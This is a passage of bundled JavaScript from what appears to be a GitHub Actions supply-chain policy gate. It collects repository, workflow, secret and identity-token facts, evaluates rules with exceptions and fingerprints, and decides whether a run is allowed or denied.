        const answers = await tree.read(files.map(({ path }) => path));
        for (const [index, answer] of answers.entries())
            take(answer, files[index]?.root ?? '', reading);
        owners = reading.actions.slice(before);
    }
}
function localActionDirectories(owner) {
    const steps = owner.kind === 'workflow' ? [...(0,walk/* stepsOf */.B_)(owner)].map(({ step }) => step) : (0,walk/* stepsOfAction */.VL)(owner);
    const { root } = owner.file;
    return steps.flatMap((step) => {
        if (step.kind !== 'uses')
            return [];
        const { target } = step.uses;
        if (target.kind !== 'local' && target.kind !== 'self')
            return [];
        const path = (0,local_path/* localPath */.$)(target.path);
        return path.includes('${{') || path.split('/')[0] === '..' ? [] : [{ root, path: join(root, path) }];
    });
}
function join(root, path) {
    return [root, path].filter((part) => part !== '').join('/');
}
function directoryOf(path) {
    return path.includes('/') ? path.slice(0, path.lastIndexOf('/')) : '';
}
function toPipeline({ workflows, actions, dependabot, locks, problems, gaps, texts }) {
    const [workflowGaps, others] = partition(gaps, ({ item }) => item.includes('.github/workflows'));
    const [lockGaps, blindWorkflows] = partition(workflowGaps, ({ item }) => item.includes('actions.lock'));
    const [dependabotGaps, actionGaps] = partition(others, ({ item }) => /dependabot\.ya?ml/.test(item));
    return {
        workflows: { items: workflows, gaps: blindWorkflows },
        actions: { items: actions, gaps: actionGaps },
        dependabot: { items: dependabot, gaps: dependabotGaps },
        locks: { items: locks, gaps: lockGaps },
        problems,
        texts,
    };
}
function partition(items, matches) {
    return [items.filter(matches), items.filter((item) => !matches(item))];
}

;// CONCATENATED MODULE: ./build/src/facts/policy.js


const policy = (0,define_fact/* defineFact */.u)({
    key: 'policy',
    needs: [],
    scope: 'run',
    permissions: {},
    tier: 'file',
    collect: async (question) => (0,core_facts/* known */.eO)(question.policy, question.policy.layers.map(({ source }) => source).join(', ')),
});

;// CONCATENATED MODULE: ./build/src/facts/repository.js



const repository = (0,define_fact/* defineFact */.u)({
    key: 'repository',
    needs: [],
    scope: 'run',
    permissions: { contents: 'read' },
    tier: 1,
    collect: async ({ repository: named, repositoryId, defaultBranch, server }, _facts, { world }) => {
        if (named === undefined || world.platform === undefined)
            return unknown_of/* notAsked */.Op;
        if (repositoryId === undefined || defaultBranch === undefined) {
            const reason = 'GitHub did not say the id and the default branch of the repository';
            return (0,core_facts/* unknown */.L5)({ cause: 'empty', reason, remedy: 'run it in a repository that has a default branch with a commit' });
        }
        const name = `${named.owner}/${named.name}`;
        return (0,core_facts/* known */.eO)({ name, id: repositoryId, defaultBranch: defaultBranch.name, server }, 'the opened commit');
    },
});

;// CONCATENATED MODULE: ./build/src/facts/scene.js



const scene = (0,define_fact/* defineFact */.u)({
    key: 'scene',
    needs: [],
    scope: 'run',
    permissions: {},
    tier: 'file',
    collect: async (question) => (0,core_facts/* known */.eO)({
        stage: question.stage,
        gate: question.gate,
        repository: question.repository === undefined ? undefined : `${question.repository.owner}/${question.repository.name}`,
        running: scene_runningIn(question),
        commit: question.commit,
        sourceCommit: question.sourceCommit,
        now: question.now,
    }, 'the run'),
});
function scene_runningIn({ run, repository }) {
    if (run === undefined || repository === undefined)
        return undefined;
    const path = (0,core_question/* workflowPathOf */._)(run.jobWorkflowRef, repository);
    return path === undefined ? undefined : { path, job: run.job };
}

;// CONCATENATED MODULE: ./build/src/facts/reachable.js


function reachableFrom(pipeline, start) {
    const reached = new Set([start]);
    const queue = [start];
    for (let path = queue.shift(); path !== undefined; path = queue.shift()) {
        for (const next of callsOf(pipeline, path)) {
            if (reached.has(next))
                continue;
            reached.add(next);
            queue.push(next);
        }
    }
    return reached;
}
function callsOf(pipeline, path) {
    const workflow = pipeline.workflows.items.find(({ file }) => file.path === path);
    if (workflow !== undefined)
        return [...workflowTargets(workflow), ...actionTargets([...(0,walk/* stepsOf */.B_)(workflow)].map(({ step }) => step))];
    const action = pipeline.actions.items.find(({ file }) => file.path === path);
    return action === undefined ? [] : actionTargets((0,walk/* stepsOfAction */.VL)(action));
}
function workflowTargets(workflow) {
    return workflow.jobs.flatMap((job) => (job.kind === 'call' ? reachable_pathsOf(job.uses.target) : []));
}
function actionTargets(steps) {
    const directories = steps.flatMap((step) => (step.kind === 'uses' ? reachable_pathsOf(step.uses.target) : []));
    return directories.flatMap((directory) => ['action.yml', 'action.yaml'].map((name) => (directory === '' ? name : `${directory}/${name}`)));
}
function reachable_pathsOf(target) {
    return target.kind === 'local' || target.kind === 'self' ? [(0,local_path/* localPath */.$)(target.path)] : [];
}
function isGapReachable({ item, location }, reached) {
    const path = location?.path ?? item;
    return reached.has(path) || !/\.ya?ml$/.test(path);
}

;// CONCATENATED MODULE: ./build/src/facts/scoped.js




function scopeOf(question, pipeline) {
    const { run, repository, stage } = question;
    if (stage !== 'deploy' || run === undefined || repository === undefined)
        return { reached: undefined, gaps: [] };
    const path = (0,core_question/* workflowPathOf */._)(run.workflowRef, repository);
    if (path === undefined)
        return { reached: undefined, gaps: [] };
    if (pipeline.texts.has(path) || pipeline.workflows.gaps.length > 0)
        return { reached: reachableFrom(pipeline, path), gaps: [] };
    const why = 'the running workflow is not among the files of the judged commit';
    return {
        reached: new Set(),
        gaps: [(0,core_facts/* gap */.rQ)({ item: path, cause: 'empty', why, remedy: 'run the workflow at the commit that is deployed' })],
    };
}
function narrow(all, { reached, gaps }) {
    if (reached === undefined)
        return all;
    return {
        items: all.items.filter(({ file }) => reached.has(file.path)),
        gaps: [...gaps, ...all.gaps.filter((one) => isGapReachable(one, reached))],
    };
}
function scoped(fact, question, pick) {
    if (fact.state === 'unknown')
        return fact;
    return (0,core_facts/* known */.eO)(pick(fact.value, scopeOf(question, fact.value)), fact.source);
}
const fromPipeline = { needs: ['pipeline'], scope: 'tree', permissions: {}, tier: 'file' };
const workflows = (0,define_fact/* defineFact */.u)({
    key: 'workflows',
    ...fromPipeline,
    collect: async (question, facts) => scoped(facts.pipeline, question, (all, scope) => narrow(all.workflows, scope)),
});
const scoped_actions = (0,define_fact/* defineFact */.u)({
    key: 'actions',
    ...fromPipeline,
    collect: async (question, facts) => scoped(facts.pipeline, question, (all, scope) => narrow(all.actions, { ...scope, gaps: [] })),
});
const dependabot = (0,define_fact/* defineFact */.u)({
    key: 'dependabot',
    ...fromPipeline,
    collect: async (question, facts) => scoped(facts.pipeline, question, (all) => all.dependabot),
});
const locks = (0,define_fact/* defineFact */.u)({
    key: 'locks',
    ...fromPipeline,
    collect: async (question, facts) => scoped(facts.pipeline, question, (all) => all.locks),
});
const problems = (0,define_fact/* defineFact */.u)({
    key: 'problems',
    ...fromPipeline,
    collect: async (question, facts) => scoped(facts.pipeline, question, ({ problems: all }, { reached }) => all.filter(({ path }) => reached === undefined || reached.has(path))),
});

;// CONCATENATED MODULE: ./build/src/facts/stored-secrets.js



const environmentLimit = 50;
const storedSecrets = (0,define_fact/* defineFact */.u)({
    key: 'storedSecrets',
    needs: ['environments'],
    scope: 'run',
    permissions: {},
    tier: 2,
    collect: async (_question, { environments }, { world: { platform, administration } }) => {
        if (platform === undefined)
            return unknown_of/* notAsked */.Op;
        if (administration === undefined)
            return unknown_of/* noAdminToken */.oI;
        const names = environments.state === 'known' ? environments.value.items.map(({ name }) => name) : [];
        const stores = await administration.storedSecrets(names.slice(0, environmentLimit));
        const unlisted = environments.state === 'known' ? [] : [gapOfEnvironments(environments)];
        const left = names.slice(environmentLimit).map((name) => {
            const why = `its secrets were not listed: the limit is ${environmentLimit} environments`;
            return (0,core_facts/* gap */.rQ)({ item: name, cause: 'limit', why, remedy: 'remove environments that nothing uses' });
        });
        const items = stores.flatMap(({ answer }) => (answer.state === 'value' ? answer.value : []));
        return (0,core_facts/* known */.eO)({ items, gaps: [...stores.flatMap(gapsOfStore), ...unlisted, ...left] }, 'the stored secrets');
    },
});
function gapsOfStore({ name, right, answer }) {
    return answer.state === 'value' ? [] : [(0,core_facts/* gapOfUnknown */.uI)(name, (0,unknown_of/* refusedAdminToken */.bE)(answer, right))];
}
function gapOfEnvironments({ cause, reason, remedy }) {
    return (0,core_facts/* gap */.rQ)({ item: 'secrets of environments', cause, why: `the environments are not known: ${reason}`, remedy });
}

;// CONCATENATED MODULE: ./build/src/facts/tag-rulesets.js




const tagRulesets = (0,define_fact/* defineFact */.u)({
    key: 'tagRulesets',
    needs: [],
    prefers: ['signatures'],
    scope: 'run',
    permissions: {},
    tier: 1,
    collect: async (_question, { signatures }, { world: { platform } }) => {
        if (!hasTag(signatures))
            return (0,core_facts/* known */.eO)({ items: [], gaps: [] }, 'not asked: nothing that was verified was built from a tag');
        if (platform === undefined)
            return unknown_of/* notAsked */.Op;
        return (0,of_answer/* manyOfAnswer */.P)(await platform.tagRulesets(), 'the rulesets about tags', {});
    },
});
function hasTag(signatures) {
    if (signatures.state === 'unknown')
        return false;
    return signatures.value.items.some(({ verifications }) => verifications.some((one) => {
        if (one.state !== 'verified' || one.signer.kind !== 'certificate')
            return false;
        return one.signer.certificate.sourceRepositoryRef?.startsWith('refs/tags/') === true;
    }));
}

;// CONCATENATED MODULE: ./build/src/facts/token-claims.js



const tokenClaims = (0,define_fact/* defineFact */.u)({
    key: 'tokenClaims',
    needs: [],
    prefers: ['branchRules'],
    scope: 'run',
    permissions: { 'id-token': 'write' },
    tier: 1,
    collect: async (question, { branchRules }, { world }) => {
        const { run, repository } = question;
        if (run === undefined || repository === undefined || world.identityTokens === undefined)
            return unknown_of/* notAsked */.Op;
        if (question.stage !== 'deploy' && !requiresWorkflow(branchRules))
            return needless(question);
        return factOf(await world.identityTokens.claims(identityOf(run, `${repository.owner}/${repository.name}`)));
    },
});
function requiresWorkflow(rules) {
    return rules.state === 'known' && rules.value.rules.some(({ kind }) => kind === 'workflows');
}
function needless({ stage }) {
    return (0,core_facts/* unknown */.L5)({ cause: 'offline', reason: `nothing depends on it at stage ${stage}`, remedy: '' });
}
function identityOf({ id, attempt, sha, jobWorkflowRef, checkRunId }, repository) {
    return { repository, runId: id, runAttempt: attempt, sha, jobWorkflowRef, checkRunId };
}
function factOf(answer) {
    switch (answer.state) {
        case 'value':
            return (0,core_facts/* known */.eO)(answer.claims, "the job's identity token");
        case 'missing':
            return (0,core_facts/* unknown */.L5)({
                cause: 'forbidden',
                reason: 'the job has no right to an identity token',
                remedy: "grant the job's token:\npermissions:\n  id-token: write",
            });
        case 'refused':
            return (0,core_facts/* unknown */.L5)({
                cause: 'invalid',
                reason: `the identity token is not to be trusted: ${answer.why}`,
                remedy: 'make the gate the first step of its job, so that no step before it can put another token in the place of its own',
            });
        case 'outage':
            return (0,core_facts/* unknown */.L5)({ cause: 'outage', reason: `no identity token could be had: ${answer.why}`, remedy: unknown_of/* runAgain */.qL });
    }
}

;// CONCATENATED MODULE: ./build/src/facts/common-collectors.js














const commonCollectors = [
    pipeline,
    workflows,
    scoped_actions,
    dependabot,
    locks,
    problems,
    scene,
    policy,
    repository,
    environmentUses,
    environments,
    manifests,
    branchRules,
    tagRulesets,
    tokenClaims,
    binding,
    storedSecrets,
    defaultToken,
];

// EXTERNAL MODULE: ./build/src/core/errors.js
var errors = __webpack_require__(43026);
// EXTERNAL MODULE: ./build/src/core/glob.js
var glob = __webpack_require__(60379);
;// CONCATENATED MODULE: ./build/src/core/exception.js

function coverOf(exceptions, rule, found, now) {
    const fitting = exceptions.filter((exception) => exception.rule === rule && isMeant(exception, found));
    const inForce = fitting.filter((exception) => !isExpired(exception, now));
    const covering = inForce.find((exception) => exception.isFromOrganisation) ?? inForce[0];
    if (covering !== undefined)
        return { state: 'covered', exception: covering };
    const [expired] = fitting;
    return expired === undefined ? undefined : { state: 'expired', exception: expired };
}
function isExpired(exception, now) {
    return !(Date.parse(now) < Date.parse(`${exception.expires}T00:00:00Z`));
}
function isMeant(exception, found) {
    const names = Object.entries(exception.where);
    return names.length > 0 && names.every(([name, wanted]) => isMatch(name, wanted, found));
}
function isMatch(name, wanted, found) {
    if (name !== 'path')
        return Object.hasOwn(found.subject, name) && found.subject[name] === wanted;
    const path = 'path' in found.location ? found.location.path : undefined;
    return path !== undefined && path.length <= glob/* textLimit */.$l && (0,glob/* matchesGlob */.kt)(wanted, path);
}

// EXTERNAL MODULE: ./build/src/core/finding.js
var finding = __webpack_require__(45068);
// EXTERNAL MODULE: ./build/src/core/stage.js
var stage = __webpack_require__(16335);
;// CONCATENATED MODULE: ./build/src/engine/cap-findings.js



const findingsLimit = 100;
function capFindings(findings) {
    const places = new Map();
    for (const finding of findings) {
        const place = (0,core_location/* locationName */.zb)(finding.location);
        const found = places.get(place);
        if (found === undefined)
            places.set(place, [finding]);
        else
            found.push(finding);
    }
    const omitted = [];
    const left = new Set();
    for (const [place, found] of places) {
        if (found.length <= findingsLimit)
            continue;
        const rest = found.toSorted((a, b) => weightOf(b) - weightOf(a)).slice(findingsLimit);
        for (const finding of rest)
            left.add(finding);
        omitted.push({ place, findings: rest.length, denied: countOf(rest, 'deny'), warned: countOf(rest, 'warn') });
    }
    return { findings: omitted.length === 0 ? findings : findings.filter((finding) => !left.has(finding)), omitted };
}
function weightOf({ enforcement, severity, exception }) {
    return exception === undefined ? 10 * (1 + stage/* enforcements */.g2.indexOf(enforcement)) + (0,finding/* severityRank */.qs)(severity) : (0,finding/* severityRank */.qs)(severity);
}
function countOf(findings, level) {
    return findings.filter(({ enforcement, exception }) => enforcement === level && exception === undefined).length;
}

;// CONCATENATED MODULE: ./build/src/engine/decide.js





function decide(planned, outcomes, terms) {
    const results = planned.flatMap((rule, index) => {
        const outcome = outcomes[index];
        return outcome === undefined ? [] : [toResult(rule, outcome, terms)];
    });
    const counts = countAll(results);
    const denial = denialOf(results);
    return {
        verdict: denial.exitReason === 'none' ? 'allow' : 'deny',
        enforced: terms.mode === 'enforce',
        ...denial,
        results: results.map((result) => ({ ...result, ...capFindings(result.findings) })),
        counts,
        exceptions: usedExceptions(results, terms.exceptions),
        isObserving: planned.every(({ rule, enforcement }) => enforcement !== 'deny' || rule.meta.locked === true),
    };
}
function toResult(planned, outcome, terms) {
    const { meta } = outcome;
    return {
        rule: meta.id,
        outcome: outcome.kind,
        enforcement: planned.enforcement,
        unknownEnforcement: unknownEnforcementOf(planned, outcome, terms),
        controls: meta.controls,
        reason: outcome.reason,
        remedy: outcome.gaps.find(({ remedy }) => remedy !== undefined)?.remedy ?? (outcome.kind === 'violation' ? meta.remediation : ''),
        gaps: outcome.gaps,
        findings: outcome.findings.map((found) => toFinding(planned, found, terms)),
        omitted: [],
    };
}
const softenable = new Set(['unsupported', 'no-token']);
function unknownEnforcementOf({ rule, enforcement, onUnknown }, outcome, terms) {
    if (outcome.kind === 'error')
        return 'deny';
    if (outcome.gaps.length === 0)
        return 'off';
    const most = (0,stage/* milder */.IH)(enforcement, rule.meta.unknown[terms.stage]);
    const levels = outcome.gaps.map((one) => enforcementOfGap(one, most, onUnknown, terms));
    return levels.includes('deny') ? 'deny' : levels.includes('warn') ? 'warn' : 'audit';
}
function enforcementOfGap({ cause, isOld }, most, onUnknown, terms) {
    if (isOld === true && terms.stage === 'merge')
        return (0,stage/* milder */.IH)(most, 'audit');
    if (cause === 'offline' && terms.isOffline)
        return (0,stage/* milder */.IH)(most, 'warn');
    if (onUnknown === 'warn' && softenable.has(cause))
        return (0,stage/* milder */.IH)(most, 'warn');
    return most;
}
function toFinding({ rule, adviceEnforcement, denyFrom, ...planned }, { isAdvice, ...found }, terms) {
    const enforcement = isAdvice === true ? adviceEnforcement : planned.enforcement;
    const isMild = denyFrom !== undefined && (0,finding/* severityRank */.qs)(found.severity) < (0,finding/* severityRank */.qs)(denyFrom);
    const isOld = terms.stage === 'merge' && !found.introduced && (0,core_location/* isFileLocation */.Cq)(found.location);
    const level = isOld ? (0,stage/* milder */.IH)(enforcement, 'audit') : isMild ? (0,stage/* milder */.IH)(enforcement, 'warn') : enforcement;
    const cover = rule.meta.locked === true ? undefined : coverOf(terms.exceptions, rule.meta.id, found, terms.now);
    const covers = cover?.state === 'covered' && (level !== 'deny' || cover.exception.isFromOrganisation);
    return { ...found, enforcement: level, ...(covers ? { exception: cover.exception.id } : {}) };
}
function denialOf(results) {
    if (results.some(({ outcome }) => outcome === 'error'))
        return { exitReason: 'internal', exitCode: 4 };
    if (results.some(({ findings }) => findings.some(isDenied)))
        return { exitReason: 'violation', exitCode: 1 };
    if (results.some(({ unknownEnforcement }) => unknownEnforcement === 'deny'))
        return { exitReason: 'unknown', exitCode: 3 };
    return { exitReason: 'none', exitCode: 0 };
}
function isDenied({ enforcement, exception }) {
    return enforcement === 'deny' && exception === undefined;
}
function countAll(results) {
    const findings = results.flatMap((result) => result.findings);
    const open = findings.filter(({ exception }) => exception === undefined);
    const isOld = (finding) => !finding.introduced;
    return {
        denied: open.filter(({ enforcement }) => enforcement === 'deny').length,
        warned: open.filter(({ enforcement }) => enforcement === 'warn').length,
        audited: open.filter((finding) => finding.enforcement === 'audit' && !isOld(finding)).length,
        excepted: findings.length - open.length,
        old: open.filter((finding) => finding.enforcement === 'audit' && isOld(finding)).length,
        unknown: results.filter(({ gaps }) => gaps.length > 0).length,
        errors: results.filter(({ outcome }) => outcome === 'error').length,
    };
}
function usedExceptions(results, exceptions) {
    return exceptions.flatMap(({ id, rule, expires }) => {
        const findings = results.flatMap((result) => result.findings).filter(({ exception }) => exception === id).length;
        return findings === 0 ? [] : [{ id, rule, findings, expires }];
    });
}

// EXTERNAL MODULE: ./build/src/artifact/model.js
var model = __webpack_require__(21213);
;// CONCATENATED MODULE: ./build/src/facts/recorded.js


const recorded_commandLine = { value: false, reason: 'the command line never binds', remedy: 'run it as the Action' };
const broken = {
    value: false,
    reason: 'what makes it binding could not be collected',
    remedy: 'report it with the decision file',
};
function recordedOf(facts, evidenceOf) {
    const subjects = (0,define_fact/* factAt */.i)(facts, 'subjects');
    const approvals = (0,define_fact/* factAt */.i)(facts, 'approvals');
    return {
        binding: bindingOf(facts),
        subjects: subjects?.state === 'known' ? subjects.value.items.map((subject) => subjectOf(subject, evidenceOf(subject))) : [],
        approvals: approvals?.state === 'known' ? approvals.value.items.map(approvalOf) : [],
    };
}
function bindingOf(facts) {
    const fact = (0,define_fact/* factAt */.i)(facts, 'binding');
    if (fact === undefined)
        return recorded_commandLine;
    if (fact.state === 'unknown')
        return broken;
    const { value, reason, remedy } = fact.value;
    return { value, reason, remedy };
}
function subjectOf({ name, digests, stagedPath }, attestations) {
    const algorithm = model/* digestAlgorithms */.D.find((one) => digests[one] !== undefined) ?? 'sha256';
    return { name, digest: `${algorithm}:${digests[algorithm] ?? ''}`, staged: stagedPath, attestations };
}
function approvalOf({ state, by, environments }) {
    return { by: by?.login, isApp: by?.isApp ?? false, state, environments };
}

// EXTERNAL MODULE: ./build/src/inputs/loosening-attempts.js
var loosening_attempts = __webpack_require__(26634);
;// CONCATENATED MODULE: ./build/src/engine/fill-template.js
function fillTemplate(template, values) {
    const known = new Map(Object.entries(values));
    return template.replace(/\{([a-z][a-zA-Z-]*)\}/g, (brace, name) => known.get(name) ?? brace);
}

;// CONCATENATED MODULE: ./build/src/engine/fingerprint.js

function fingerprinter(meta, hash) {
    const seen = new Map();
    return (violation) => {
        const parts = [meta.id, (0,core_location/* locationName */.zb)(violation.location), violation.message, ...meta.key.map((name) => violation.data[name] ?? '')];
        const identity = JSON.stringify(parts);
        const ordinal = seen.get(identity) ?? 0;
        seen.set(identity, ordinal + 1);
        return hash(`${identity}#${ordinal}`).slice(0, 32);
    };
}

;// CONCATENATED MODULE: ./build/src/engine/evaluate.js





function evaluateRules(rules, facts, hash, old) {
    return concludeRules(rules, evaluateFacts(rules, facts, hash, old), facts, hash, old);
}
function evaluateFacts(rules, facts, hash, old) {
    return rules.filter(judgesFacts).map((planned) => evaluateRule(planned, facts, hash, old));
}
function concludeRules(rules, outcomes, facts, hash, old) {
    const judged = new Map([...facts, ['outcomes', { state: 'known', value: outcomes, source: 'this run' }]]);
    const first = rules.filter(judgesFacts);
    return rules.map((planned) => outcomes[first.indexOf(planned)] ?? evaluateRule(planned, judged, hash, old));
}
function judgesFacts({ rule }) {
    return !rule.needs.includes('outcomes');
}
function evaluateRule({ rule, options }, facts, hash, old) {
    const { meta } = rule;
    const { values, missing } = neededOf(rule, facts);
    const [first] = missing;
    if (first !== undefined)
        return { meta, kind: 'unknown', reason: reasonOf(first, missing), findings: [], gaps: missing };
    const collections = Object.values(values).filter(core_facts/* isMany */.cw);
    if (collections.length > 0 && collections.every(({ items, gaps }) => items.length === 0 && gaps.length === 0)) {
        return { meta, kind: 'not-applicable', reason: `there are no ${namesOf(values).join(' and no ')} here`, findings: [], gaps: [] };
    }
    const evaluation = callRule(rule, { ...values, ...wantedOf(rule, facts) }, options);
    if (evaluation.state === 'error')
        return { meta, kind: 'error', reason: evaluation.reason, findings: [], gaps: [] };
    const inherited = collections.flatMap(({ gaps }) => gaps).map((one) => (old.hasGap(one) ? { ...one, isOld: true } : one));
    return toOutcome(rule, evaluation.value, inherited, hash, old);
}
function namesOf(values) {
    const keys = Object.keys(values).filter((key) => (0,core_facts/* isMany */.cw)(values[key]));
    return keys.map((key) => key.replace(/[A-Z]/g, (letter) => ` ${letter.toLowerCase()}`));
}
function neededOf({ needs }, facts) {
    const values = {};
    const missing = [];
    for (const key of needs) {
        const fact = facts.get(key);
        if (fact?.state === 'known')
            values[key] = fact.value;
        else
            missing.push(unknownGap(key, fact));
    }
    return { values, missing };
}
function unknownGap(key, fact) {
    if (fact === undefined)
        return (0,core_facts/* gap */.rQ)({ item: key, cause: 'invalid', why: `the fact '${key}' was not collected` });
    return (0,core_facts/* gapOfUnknown */.uI)(key, fact);
}
function wantedOf({ wants }, facts) {
    return Object.fromEntries(wants.map((key) => [key, facts.get(key)]));
}
function callRule(rule, given, options) {
    try {
        return { state: 'value', value: rule.evaluate(given, options) };
    }
    catch (error) {
        return { state: 'error', reason: `the rule broke: ${(0,errors/* messageOfError */.TX)(error)}` };
    }
}
function toOutcome(rule, evaluation, inherited, hash, old) {
    const { meta } = rule;
    if ('kind' in evaluation) {
        const [first] = inherited;
        if (first !== undefined)
            return { meta, kind: 'unknown', reason: reasonOf(first, inherited), findings: [], gaps: inherited };
        return { meta, kind: 'not-applicable', reason: evaluation.reason, findings: [], gaps: [] };
    }
    const violations = evaluation.filter((result) => result.kind === 'violation').toSorted(byPlace);
    const gaps = [...inherited, ...evaluation.filter((result) => result.kind === 'gap')];
    const findings = toFindings(rule, violations, hash, old);
    const [found] = findings;
    const [first] = gaps;
    if (found !== undefined)
        return { meta, kind: 'violation', reason: found.message, findings, gaps };
    if (first !== undefined)
        return { meta, kind: 'unknown', reason: reasonOf(first, gaps), findings, gaps };
    return { meta, kind: 'pass', reason: '', findings, gaps };
}
function byPlace(a, b) {
    return (0,core_location/* compareLocations */.Qr)(a.location, b.location);
}
function reasonOf(first, gaps) {
    const more = gaps.length > 1 ? ` (and ${gaps.length - 1} more)` : '';
    return `${first.item}: ${first.why}${more}`;
}
function toFindings({ meta }, violations, hash, old) {
    const fingerprintOf = fingerprinter(meta, hash);
    return violations.map((violation) => {
        const fingerprint = fingerprintOf(violation);
        return {
            severity: violation.severity ?? meta.severity,
            confidence: violation.confidence ?? 'high',
            introduced: !old.hasFinding(meta.id, fingerprint, violation.location),
            message: fillTemplate(meta.messages[violation.message] ?? violation.message, violation.data),
            remediation: fillTemplate(meta.remediation, violation.data),
            location: violation.location,
            related: violation.related ?? [],
            subject: evaluate_subjectOf(meta.key, violation),
            fingerprint,
            ...(violation.isAdvice === true ? { isAdvice: true } : {}),
        };
    });
}
function evaluate_subjectOf(key, { data }) {
    return Object.fromEntries(key.map((name) => [name, data[name] ?? '']));
}

;// CONCATENATED MODULE: ./build/src/engine/compare-with-base.js


const nothingIsOld = { hasFinding: () => false, hasGap: () => false };
function compareWithBase(rules, baseFacts, hash, { judged, base }) {
    const found = new Map();
    for (const { meta, findings } of evaluateFacts(rules, baseFacts, hash, nothingIsOld)) {
        for (const { location, fingerprint } of findings) {
            if ((0,core_location/* isFileLocation */.Cq)(location))
                found.set(`${meta.id}\0${fingerprint}`, linesAt(location, base));
        }
    }
    return {
        hasFinding: (rule, fingerprint, location) => {
            const lines = (0,core_location/* isFileLocation */.Cq)(location) ? linesAt(location, judged) : undefined;
            return lines !== undefined && found.get(`${rule}\0${fingerprint}`) === lines;
        },
        hasGap: ({ location }) => location !== undefined && judged.has(location.path) && judged.get(location.path) === base.get(location.path),
    };
}
function linesAt({ path, start, end }, texts) {
    return texts
        .get(path)
        ?.split(/\r\n|\n|\r/)
        .slice(start.line - 1, end.line)
        .map((line) => line.trim())
        .join('\n');
}

;// CONCATENATED MODULE: ./build/src/engine/merge-outcomes.js

const order = ['not-applicable', 'pass', 'unknown', 'violation', 'error'];
function mergeOutcomes(parts) {
    const [first = []] = parts;
    return first.map(({ meta }) => merge_outcomes_merged(parts.flatMap((part) => part.filter((one) => one.meta.id === meta.id))));
}
function merge_outcomes_merged(outcomes) {
    const worst = outcomes.reduce((a, b) => (order.indexOf(b.kind) > order.indexOf(a.kind) ? b : a));
    const findings = once(outcomes.flatMap((outcome) => outcome.findings), ({ fingerprint }) => fingerprint);
    const gaps = once(outcomes.flatMap((outcome) => outcome.gaps), ({ item, why }) => `${item}\0${why}`);
    return { ...worst, findings: findings.toSorted((a, b) => (0,core_location/* compareLocations */.Qr)(a.location, b.location)), gaps };
}
function once(items, identity) {
    return [...new Map(items.toReversed().map((item) => [identity(item), item])).values()].toReversed();
}

;// CONCATENATED MODULE: ./build/src/facts/collect.js


async function collectFacts(planned, collectors, question, ports, settled) {
    const facts = new Map();
    for (const key of planned) {
        const collector = collectors.find((candidate) => candidate.key === key);
        if (collector === undefined)
            continue;
        const kept = collector.scope === 'run' ? settled.get(key) : undefined;
        const given = Object.fromEntries([...collector.needs, ...collector.prefers].flatMap((need) => entryOf(facts, need)));
        facts.set(key, kept ?? (await collectOne(collector, question, given, ports)));
    }
    return facts;
}
function entryOf(facts, key) {
    const fact = facts.get(key);
    return fact === undefined ? [] : [[key, fact]];
}
async function collectOne(collector, question, needed, ports) {
    try {
        return await collector.collect(question, needed, ports);
    }
    catch (error) {
        return (0,core_facts/* unknown */.L5)({
            cause: 'invalid',
            reason: `collecting '${collector.key}' failed: ${(0,errors/* messageOfError */.TX)(error)}`,
            remedy: 'report it with the decision file; until then this run cannot be judged',
        });
    }
}

;// CONCATENATED MODULE: ./build/src/facts/judged-files.js

function judgedFiles(facts) {
    return { workflows: judged_files_pathsOf(facts, 'workflows'), actions: judged_files_pathsOf(facts, 'actions') };
}
function judged_files_pathsOf(facts, key) {
    const own = judged_files_valueOf(facts, key);
    const all = own === undefined ? fieldOf(judged_files_valueOf(facts, 'pipeline'), key) : own;
    return (0,core_facts/* isMany */.cw)(all) ? all.items.map((item) => fieldOf(fieldOf(item, 'file'), 'path')).filter((path) => typeof path === 'string') : [];
}
function judged_files_valueOf(facts, key) {
    const fact = facts.get(key);
    return fact?.state === 'known' ? fact.value : undefined;
}
function fieldOf(value, name) {
    return typeof value === 'object' && value !== null ? Object.entries(value).find(([key]) => key === name)?.[1] : undefined;
}

;// CONCATENATED MODULE: ./build/src/facts/texts-of.js
function texts_of_textsOf(facts) {
    return new Map([...textsIn(facts, 'manifests'), ...textsIn(facts, 'pipeline')]);
}
function textsIn(facts, key) {
    const fact = facts.get(key);
    const value = fact?.state === 'known' ? fact.value : undefined;
    const texts = typeof value === 'object' && value !== null && 'texts' in value ? value.texts : undefined;
    return texts instanceof Map ? texts : new Map();
}

;// CONCATENATED MODULE: ./build/src/judge-roots.js






async function judgeRoots(judging) {
    const { rules, sources, hash } = judging;
    const parts = [];
    const judged = { workflows: new Set(), actions: new Set() };
    let facts = new Map();
    for (const [index, root] of (sources.roots.length === 0 ? [''] : sources.roots).entries()) {
        const ports = portsOf(judging.world, sources.judged, root, index === 0 ? sources.rootGaps : []);
        facts = await collectFacts(judging.facts, judging.collectors, judging.question, ports, facts);
        const files = judgedFiles(facts);
        for (const path of files.workflows)
            judged.workflows.add(path);
        for (const path of files.actions)
            judged.actions.add(path);
        parts.push(evaluateFacts(rules, facts, hash, await oldOf(judging, facts, root)));
    }
    const outcomes = concludeRules(rules, mergeOutcomes(parts), facts, hash, nothingIsOld);
    return { facts, outcomes, judged: { workflows: judged.workflows.size, actions: judged.actions.size } };
}
function portsOf(world, tree, root, rootGaps) {
    return { world, tree, roots: [root], rootGaps };
}
async function oldOf({ rules, facts, collectors, question, sources, world, hash }, judged, root) {
    if (question.stage !== 'merge' || sources.base === undefined)
        return nothingIsOld;
    const baseFacts = await collectFacts(facts, collectors, question, portsOf(world, sources.base.tree, root, []), judged);
    return compareWithBase(rules, baseFacts, hash, { judged: texts_of_textsOf(judged), base: texts_of_textsOf(baseFacts) });
}

// EXTERNAL MODULE: ./build/src/data/tool.js
var tool = __webpack_require__(4930);
// EXTERNAL MODULE: ./build/src/core/unjudged-keys.js
var unjudged_keys = __webpack_require__(7220);
// EXTERNAL MODULE: ./build/src/report/gap-item.js
var gap_item = __webpack_require__(91390);
// EXTERNAL MODULE: ./build/src/report/is-about-gate.js
var is_about_gate = __webpack_require__(52140);
// EXTERNAL MODULE: ./build/src/report/plural.js
var plural = __webpack_require__(48916);
;// CONCATENATED MODULE: ./build/src/report/reasons.js





function reasonsOf({ results, verdict, isObserving }, isPartial) {
    if (verdict === 'allow') {
        const judged = results.filter(({ rule }) => !(0,is_about_gate/* isAboutGate */.P)(rule));
        const decided = judged.filter(({ outcome }) => outcome === 'pass' || outcome === 'violation').length;
        return [
            `${decided} of ${(0,plural/* plural */.L)(judged.length, 'rule')} ${decided === 1 ? 'was' : 'were'} decided, and none denies`,
            ...(isObserving
                ? [
                    isPartial
                        ? 'nothing could be denied: no rule that was asked for denies at this stage'
